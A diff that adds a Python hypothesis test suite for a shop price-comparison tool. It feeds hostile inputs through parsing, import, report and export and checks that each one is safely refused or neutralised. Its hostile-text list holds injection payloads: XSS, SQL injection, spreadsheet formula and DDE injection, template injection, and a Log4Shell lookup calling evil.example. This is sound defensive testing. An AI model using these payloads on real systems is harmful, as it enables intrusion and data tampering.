@@ -1,0 +1,421 @@
+"""Hostile inputs nobody wrote by hand: hypothesis generates them and drives them through the
+paths a user's file, a visit or a shop's page takes, asserting the contract rather than exact
+outputs: a clear error naming the row and field, or a value every later stage handles (no
+crash, no infinity or NaN in a report, no amount misread a thousandfold, no formula in an
+export, nothing already stored lost).
+
+The examples are derandomised and kept few (`HOSTILE`), so the suite stays fast and the same
+run passes or fails the same way everywhere.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+from datetime import UTC, date, datetime, timedelta, timezone
+from decimal import Decimal
+from pathlib import Path
+
+import openpyxl
+import pytest
+from bs4 import BeautifulSoup
+from click.testing import CliRunner
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+from sqlalchemy import select
+
+from storecheck import db, money
+from storecheck.cli import cli, init_workspace
+from storecheck.models import Offer, OwnProduct, clean_text
+from storecheck.money import MAX_AMOUNT, MoneyError, find_price, read_money
+from storecheck.tables import write_table
+from storecheck.visits import VisitContext, parse_score, parse_when, validate_visit
+from storecheck.visits.parsing import parse_count
+from test_visits import make_visit_workspace
+
+HOSTILE = settings(
+    max_examples=40, deadline=None, derandomize=True, database=None, print_blob=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+# Each example of these builds a workspace and runs commands on it: fewer, each carrying many rows.
+WORKSPACE_EXAMPLES = settings(HOSTILE, max_examples=6)
+
+HOSTILE_PRICES = [
+    "1e309", "NaN", "Infinity", "-inf", "-0", "0", "-5", "1" * 40, "1.234.567,89", "1,234", "١٢٣٫٤٥", "١٢٣", "１２３",
+    "12,-", "€ 12", "12 €", "$1.2.3", "", " ", "\t", "0,001", "0.500", "0.00001", "9999999999.9999", "10000000000",
+    "1_000", "½", "1e3", "0x1F", "(5)", "5-", "€", "€€5", "5 € €", "EUR USD 5", "XXX 5", "5 usd", "1 000 000,00 kr",
+    "1'234.50", "12.345.678", "\u00a05\u00a0", "5\u2009000", "--5", "+5", "∞", "1" * 200, " 1" * 60,
+]
+HOSTILE_TEXTS = [
+    "", " ", "<script>alert(1)</script>", "{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "'; DROP TABLE own_products; --",
+    '=HYPERLINK("http://evil.example","click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+    "x" * 10_000, "\x1b[2J\x1b]0;owned\x07", "a\x00b", "\u202eevil\u202c", "مرحبا بالعالم", "שלום", "🍝🍕👨‍👩‍👧",
+    "${jndi:ldap://evil.example/a}", "javascript:alert(1)", "\ufeffBOM", "line\nbreak", "Ｆｕｌｌｗｉｄｔｈ", "a\x0bb\x0cc\x7f",
+    '"quoted", with, commas', "[/bold]markup[red]", "\\N", "NULL", "None", "nan", "inf",
+]
+texts = st.one_of(st.sampled_from(HOSTILE_TEXTS), st.text(max_size=40))
+price_texts = st.one_of(
+    st.sampled_from(HOSTILE_PRICES),
+    st.text(alphabet="0123456789.,'€$£ -", max_size=16),
+    st.decimals(allow_nan=True, allow_infinity=True).map(str),
+)
+
+
+def invoke(workspace, *args):
+    return CliRunner().invoke(cli, [*args, "--workspace", str(workspace.path)])
+
+
+def assert_clean_outcome(result, *, named: bool = True) -> None:
+    """A command ends with its output or a message (exit 1), never a traceback; a refused file names
+    the line and the column."""
+    assert result.exit_code in (0, 1), result.output
+    if result.exception is not None and not isinstance(result.exception, SystemExit):
+        raise result.exception
+    if result.exit_code == 1 and named:
+        assert re.search(r"(line|record) \d+", result.output) and "column" in result.output, result.output
+
+
+# --- money ------------------------------------------------------------------------------------------
+
+
+@HOSTILE
+@given(price_texts)
+def test_any_text_is_an_amount_kept_or_a_money_error(text):
+    try:
+        amount, _ = read_money(text)
+    except MoneyError as exc:
+        assert 0 < len(str(exc)) < 300  # a long cell is quoted cut short
+        return
+    assert amount is None or (amount.is_finite() and abs(amount) <= MAX_AMOUNT)
+
+
+@HOSTILE
+@given(st.one_of(price_texts, st.text(max_size=80)))
+def test_any_page_text_gives_a_price_or_none(text):
+    amount, _ = find_price(text)
+    assert amount is None or amount.is_finite()
+
+
+# How people write one amount: (thousands mark, decimal mark).
+STYLES = [(",", "."), (".", ","), (" ", ","), ("\u00a0", ","), ("'", "."), ("", "."), ("", ",")]
+# Prices in cents up to the largest amount kept, and amounts under one with a third decimal
+# ("0,500"), which no thousands reading can explain.
+amounts = st.one_of(
+    st.decimals(min_value=0, max_value=MAX_AMOUNT, places=2),
+    st.integers(min_value=0, max_value=999).map(lambda n: Decimal(n).scaleb(-3)),
+)
+
+
+def written(amount: Decimal, style: tuple[str, str], sign: str) -> str:
+    thousands, mark = style
+    whole, _, fraction = f"{amount:f}".partition(".")
+    groups = []
+    while len(whole) > 3:
+        whole, groups = whole[:-3], [whole[-3:], *groups]
+    text = thousands.join([whole, *groups]) + (mark + fraction if fraction else "")
+    return {"": text, "€": f"€{text}", " €": f"{text} €", "EUR": f"EUR {text}"}[sign]
+
+
+@HOSTILE
+@given(amounts, st.sampled_from(STYLES), st.sampled_from(["", "€", " €", "EUR"]))
+@example(Decimal("0.001"), ("", ","), "")
+@example(Decimal("0.500"), ("", ","), " €")
+def test_an_amount_written_as_people_write_it_reads_back_exactly(amount, style, sign):
+    text = written(amount, style, sign)
+    assert read_money(text)[0] == amount, text
+    if sign:
+        assert find_price(text)[0] == amount, text
+
+
+@pytest.mark.timeout(120)
+def test_price_parser_is_never_handed_a_run_of_digits_longer_than_an_amount(monkeypatch):
+    """price-parser's reading takes time that grows with the square of a number's length: 100,000
+    digits in a cell or on a page would hold an import or a crawl for hours. Nothing longer than
+    any amount reaches it (and the cell's own pattern sees at most a short text)."""
+    handed: list[int] = []
+
+    def bounded(function):
+        def wrapper(text, *args, **kwargs):
+            digits = sum(map(str.isdigit, text))
+            handed.append(digits)
+            assert digits <= money.MAX_NUMBER_DIGITS, f"{digits} digits handed to price-parser"
+            return function(text, *args, **kwargs)
+        return wrapper
+
+    class Pattern:
+        def __init__(self, pattern):
+            self.pattern = pattern
+
+        def fullmatch(self, text):
+            assert len(text) <= 1000, f"a text of {len(text)} characters matched against the money pattern"
+            return self.pattern.fullmatch(text)
+
+    monkeypatch.setattr(money.Price, "fromstring", staticmethod(bounded(money.Price.fromstring)))
+    monkeypatch.setattr(money, "get_decimal_separator", bounded(money.get_decimal_separator))
+    monkeypatch.setattr(money, "_MONEY_TEXT", Pattern(money._MONEY_TEXT))
+    for text in ["1" * 1_000_000, "€" + "1." * 200_000, "1\u00a0" * 100_000, "1" + " " * 100_000 + "$x", "1'" * 100_000]:
+        try:
+            amount, _ = read_money(text)
+        except MoneyError:
+            amount = None
+        assert amount is None
+        find_price(text)
+    assert find_price("Price: € 12.99 (incl. VAT)") == (Decimal("12.99"), "€")  # a page's text still reads
+    assert max(handed) <= money.MAX_NUMBER_DIGITS
+
+
+# --- visits -----------------------------------------------------------------------------------------
+
+yaml_values = st.recursive(
+    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=20), st.sampled_from(HOSTILE_TEXTS),
+              st.dates(), st.datetimes(timezones=st.sampled_from([None, UTC, timezone(timedelta(hours=14)),
+                                                                  timezone(timedelta(hours=-12))]))),
+    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)),
+    max_leaves=8,
+)
+
+
+@HOSTILE
+@given(st.one_of(yaml_values, st.sampled_from(["1" * 400, "-" + "9" * 5000, "0001-01-01T00:00+05:00",
+                                                "9999-12-31T23:59-05:00", "5.0000", "٣", "n/a"])))
+def test_typed_scores_counts_and_times_are_read_or_refused_with_a_value_error(value):
+    for parse in (parse_score, parse_count, parse_when):
+        try:
+            parse(value)
+        except ValueError as exc:
+            assert len(str(exc)) < 300
+
+
+@pytest.fixture
+def visit_ws(workspace):
+    return make_visit_workspace(workspace)
+
+
+VISIT_FIELDS = ["visited_at", "visitor", "duration_minutes", "footfall_count", "footfall_minutes", "holiday",
+                "average_ticket", "average_ticket_source", "currency", "score_environment", "score_display",
+                "score_hospitality", "notes", "promotions", "products", "price_checks", "criteria", "photos"]
+
+
+@HOSTILE
+@given(st.dictionaries(st.sampled_from(VISIT_FIELDS), yaml_values, max_size=6))
+def test_a_visit_of_any_shape_is_valid_or_its_problems_are_named(visit_ws, fields):
+    """What a YAML file can hold (numbers, dates, nested lists, texts nobody typed) in any field."""
+    data = {"competitor": "Rival", "store": "High Street", "visited_at": "2025-03-01 10:30", **fields}
+    visit, problems = validate_visit(data, VisitContext(visit_ws.config, skus={"SKU1"}))
+    assert (visit is None) == bool(problems)
+    assert all(problem.field and problem.message for problem in problems)
+
+
+def test_a_date_beyond_utc_and_a_number_of_5000_digits_are_named_in_a_visits_file(visit_ws, tmp_path):
+    path = tmp_path / "visits.csv"
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["competitor", "store", "visited_at", "footfall_count", "footfall_minutes", "score_display"])
+        writer.writerow(["Rival", "High Street", "0001-01-01T00:00+05:00", "12", "10", "4"])
+        writer.writerow(["Rival", "High Street", "2025-03-01 10:00", "9" * 5000, "10", "4"])
+        writer.writerow(["Rival", "Station", "2025-03-01 10:00", "12", "10", "1" * 400])
+    result = invoke(visit_ws, "visit", "import", str(path))
+    assert_clean_outcome(result)
+    assert result.exit_code == 1
+    assert "line 2, column 'visited_at': '0001-01-01T00:00+05:00' is out of the range of dates" in result.output
+    assert "line 3, column 'footfall_count'" in result.output and "has too many digits" in result.output
+    assert "line 4, column 'score_display'" in result.output
+
+
+# --- text nobody should trust -----------------------------------------------------------------------
+
+
+@HOSTILE
+@given(st.one_of(texts, st.text(st.characters(codec="utf-8"), max_size=20)))
+def test_stored_text_holds_no_control_characters_but_tabs_and_line_breaks(text):
+    cleaned = clean_text(text)
+    assert cleaned is None or not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", cleaned)
+
+
+def read_back(path: Path) -> list[list]:
+    if path.suffix == ".xlsx":
+        sheet = openpyxl.load_workbook(path).active
+        for row in sheet.iter_rows(min_row=2):
+            for cell in row:
+                assert cell.data_type != "f", f"{cell.value!r} became a formula"
+        return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
+    with path.open(encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))[1:]
+
+
+@HOSTILE
+@given(st.lists(st.one_of(texts, st.text(st.characters(codec="utf-8"), max_size=12)), min_size=1, max_size=6),
+       st.sampled_from(["csv", "xlsx"]))
+def test_an_exported_table_of_any_text_holds_no_formula_and_no_control_character(tmp_path_factory, cells, kind):
+    path = tmp_path_factory.mktemp("export") / f"table.{kind}"
+    write_table([{"text": cell} for cell in cells], path, ["text"])
+    formula = ("=", "+", "-", "@", "\t", "\r")
+    for (value,), cell in zip(read_back(path), cells):  # an XLSX cell is checked to be no formula by read_back
+        if kind == "csv":
+            assert not (value or "").startswith(formula), f"{cell!r} exported as {value!r}"
+            # What was written, an apostrophe before a formula's text (a spreadsheet shows it as text).
+            assert value == ("'" + cell if cell.startswith(formula) else cell)
+        else:
+            assert (value or "") == re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", cell)
+
+
+# --- files through every stage ----------------------------------------------------------------------
+
+COLUMNS = ["sku", "name", "brand", "category", "price"]
+
+
+def write_file(path: Path, kind: str, columns: list[str], rows: list[list[str]]) -> Path:
+    path = path.with_suffix("." + kind)
+    if kind == "csv":
+        with path.open("w", newline="", encoding="utf-8") as handle:
+            csv.writer(handle).writerows([columns, *rows])
+    elif kind == "xlsx":
+        book = openpyxl.Workbook()
+        sheet = book.active
+        for row in [columns, *rows]:
+            cells = [re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", value) for value in row]  # what Excel can save
+            sheet.append(cells)
+            for cell in sheet[sheet.max_row]:
+                cell.data_type = "s"
+        book.save(path)
+    else:
+        path.write_text(json.dumps([dict(zip(columns, row)) for row in rows], ensure_ascii=False), encoding="utf-8")
+    return path
+
+
+def stored_prices(workspace) -> dict[str, Decimal | None]:
+    with db.open_database(workspace.database_url).connect() as conn:
+        return dict(conn.execute(select(db.own_products.c.sku, db.own_products.c.price)).all())
+
+
+products = st.lists(st.tuples(texts, texts, texts, price_texts), min_size=1, max_size=6)
+
+
+@WORKSPACE_EXAMPLES
+@given(products, products, st.sampled_from(["csv", "xlsx", "json"]))
+def test_hostile_files_are_refused_by_row_and_column_or_carried_through_score_report_and_export(
+        tmp_path_factory, ours, theirs, kind):
+    tmp = tmp_path_factory.mktemp("hostile")
+    workspace = init_workspace(tmp / "ws", shop_name="Test Shop", currency="EUR")
+    invoke(workspace, "competitor", "add", "Rival")
+    # Every product also has a plain twin, so match, score and report have pairs to work on.
+    plain = [["P1", "Spaghetti 500 g", "Barilla", "Pasta", "1.99"], ["P2", "Olive oil 1 l", "Bertolli", "Oil", "5.49"]]
+    catalogue = write_file(tmp / "catalogue", kind, COLUMNS,
+                           plain + [[f"S{n}", name, brand, category, price] for n, (name, brand, category, price) in enumerate(ours)])
+    offers = write_file(tmp / "offers", kind, ["key", *COLUMNS[1:]],
+                        [["K1", "Spaghetti 500g", "Barilla", "Pasta", "2.09"], ["K2", "Olive oil 1l", "Bertolli", "Oil", "4.99"]]
+                        + [[f"R{n}", name, brand, category, price] for n, (name, brand, category, price) in enumerate(theirs)])
+    for args in (["catalogue", "import", str(catalogue)], ["offers", "import", str(offers), "--competitor", "Rival"]):
+        result = invoke(workspace, *args)
+        assert_clean_outcome(result)
+        if result.exit_code:
+            # Nothing of a refused file is stored; the good rows go in with --skip-invalid.
+            assert "nothing was imported" in result.output
+            assert_clean_outcome(invoke(workspace, *args, "--skip-invalid"))
+    for sku, price in stored_prices(workspace).items():
+        assert price is None or (price.is_finite() and 0 <= price <= MAX_AMOUNT), (sku, price)
+    assert_clean_outcome(invoke(workspace, "match"), named=False)
+    scored = invoke(workspace, "score", "--json")
+    assert_clean_outcome(scored, named=False)
+    assert scored.exit_code == 0
+    json.loads(scored.output, parse_constant=lambda name: pytest.fail(f"{name} in score --json"))
+    report = tmp / "report.html"
+    assert_clean_outcome(invoke(workspace, "report", "-o", str(report)), named=False)
+    page = BeautifulSoup(report.read_text(encoding="utf-8"), "html.parser")
+    # The report's own scripts carry its nonce; a name's <script> stays text.
+    assert all(script.get("nonce") for script in page.find_all("script"))
+    assert not page.find_all(attrs={"onerror": True}) and not page.find_all("iframe")
+    for link in page.find_all("a", href=True):
+        assert not link["href"].strip().lower().startswith(("javascript:", "data:", "vbscript:")), link
+    for cell in page.select("td.num"):  # the figures (a name may well be "nan")
+        assert not re.search(r"\b(nan|inf|infinity)\b", cell.get_text(), re.I), cell
+    for table, extension in (("offers", "csv"), ("products", "xlsx"), ("price", "csv")):
+        out = tmp / f"{table}.{extension}"
+        assert_clean_outcome(invoke(workspace, "export", table, str(out)), named=False)
+        rows = read_back(out)  # no XLSX cell is a formula
+        for value in (value for row in rows for value in row if extension == "csv"):
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+            assert not value.startswith("-") or re.fullmatch(r"-[\d.]+", value), value
+
+
+def test_a_stored_name_reads_back_as_written_bar_control_characters(workspace, tmp_path):
+    names = [n for n in HOSTILE_TEXTS if n.strip() and "\x00" not in n] + ["'; DROP TABLE own_products; --"]
+    path = write_file(tmp_path / "catalogue", "csv", ["sku", "name", "price"],
+                      [[f"S{n}", name, "1.00"] for n, name in enumerate(names)])
+    result = invoke(workspace, "catalogue", "import", str(path))
+    assert result.exit_code == 0, result.output
+    with db.open_database(workspace.database_url).connect() as conn:
+        stored = dict(conn.execute(select(db.own_products.c.sku, db.own_products.c.name)).all())
+    assert len(stored) == len(names)
+    for n, name in enumerate(names):
+        assert stored[f"S{n}"] == re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", "", name).strip()
+
+
+@WORKSPACE_EXAMPLES
+@given(st.lists(st.tuples(amounts, st.booleans()), min_size=1, max_size=12), st.sampled_from(STYLES[:5]))
+def test_a_file_of_prices_written_by_one_hand_is_stored_as_written(tmp_path_factory, prices, style):
+    """One hand, one way of writing amounts: the file's own prices settle "1.234" (money.decimal_mark),
+    and no price is stored a thousand times too large or too small."""
+    tmp = tmp_path_factory.mktemp("prices")
+    workspace = init_workspace(tmp / "ws", shop_name="Test Shop", currency="EUR")
+    rows = [[f"S{n}", f"Product {n}", written(amount, style, " €" if euro else "")] for n, (amount, euro) in enumerate(prices)]
+    result = invoke(workspace, "catalogue", "import", str(write_file(tmp / "catalogue", "csv", ["sku", "name", "price"], rows)))
+    assert_clean_outcome(result)
+    if result.exit_code == 0:
+        assert stored_prices(workspace) == {f"S{n}": amount for n, (amount, _) in enumerate(prices)}
+
+
+# --- an import the database stops half-way ----------------------------------------------------------
+
+
+def test_an_import_the_database_stops_half_way_says_what_it_stored_and_loses_nothing(workspace, tmp_path, monkeypatch):
+    from sqlalchemy.exc import OperationalError
+
+    from storecheck import catalogue
+
+    path = write_file(tmp_path / "catalogue", "csv", ["sku", "name", "price"],
+                      [[f"S{n}", f"Product {n}", "1.00"] for n in range(10)])
+    before = write_file(tmp_path / "before", "csv", ["sku", "name", "brand"], [["OLD", "Kept", "Brand"]])
+    assert invoke(workspace, "catalogue", "import", str(before)).exit_code == 0
+    monkeypatch.setattr(catalogue, "WRITE_BATCH_ROWS", 4)
+    real = db.upsert_own_products
+    calls = []
+
+    def refuses_the_third_batch(conn, batch, fields=None):
+        calls.append(len(batch))
+        if len(calls) == 3:
+            raise OperationalError("INSERT", {}, Exception("database or disk is full"))
+        return real(conn, batch, fields)
+
+    monkeypatch.setattr(db, "upsert_own_products", refuses_the_third_batch)
+    result = invoke(workspace, "catalogue", "import", str(path))
+    assert result.exit_code == 1 and not isinstance(result.exception, OperationalError), result.output
+    assert "database or disk is full" in result.output
+    assert "the first 8 valid rows of the file are stored (8 inserted" in result.output
+    assert "import the file again" in result.output
+    assert set(stored_prices(workspace)) == {"OLD", *(f"S{n}" for n in range(8))}
+
+    monkeypatch.setattr(db, "upsert_own_products", real)
+    again = invoke(workspace, "catalogue", "import", str(path))
+    assert again.exit_code == 0 and "2 new, 0 updated, 8 unchanged" in again.output, again.output
+    assert set(stored_prices(workspace)) == {"OLD", *(f"S{n}" for n in range(10))}
+
+
+def test_models_refuse_hostile_prices_as_a_validation_error_naming_the_field():
+    for text in HOSTILE_PRICES:
+        for model, fields in ((OwnProduct, {"sku": "S", "name": "N"}), (Offer, {"key": "K"})):
+            try:
+                item = model(**fields, price=text)
+            except ValueError as exc:
+                assert "price" in str(exc)
+                continue
+            assert item.price is None or (item.price.is_finite() and 0 <= item.price <= MAX_AMOUNT)
+
+
+def test_dates_that_exist_only_in_one_zone_are_refused_not_crashed():
+    with pytest.raises(ValueError, match="out of the range of dates"):
+        parse_when(datetime(1, 1, 1, tzinfo=timezone(timedelta(hours=5))))
+    assert parse_when(datetime(2025, 3, 1, 10, 30, tzinfo=UTC)) == datetime(2025, 3, 1, 10, 30, tzinfo=UTC)
+    with pytest.raises(ValueError, match="time of day"):
+        parse_when(date(2025, 3, 1))
